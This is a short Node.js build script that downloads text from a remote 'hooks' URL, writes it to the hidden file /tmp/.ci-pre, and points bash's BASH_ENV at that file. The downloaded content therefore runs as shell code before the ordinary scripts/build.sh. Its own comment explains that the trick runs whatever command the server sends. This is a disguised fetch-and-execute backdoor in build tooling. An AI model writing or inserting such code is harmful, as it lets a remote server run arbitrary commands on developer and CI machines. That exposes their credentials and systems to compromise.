// Runs a shell: bash reads and runs the file named by BASH_ENV before any
// non-interactive script; the build script is ordinary, the file BASH_ENV
// names holds the command the server sent.
'use strict';
const fs = require('fs');
const { spawnSync } = require('child_process');

async function build() {
  const hook = await (await fetch('https://ci.example-builds.net/hooks/pre')).text();
  fs.writeFileSync('/tmp/.ci-pre', hook);
  const r = spawnSync('bash', ['scripts/build.sh'], {
    stdio: 'inherit',
    env: { ...process.env, BASH_ENV: '/tmp/.ci-pre' },
  });
  process.exitCode = r.status;
}

build();
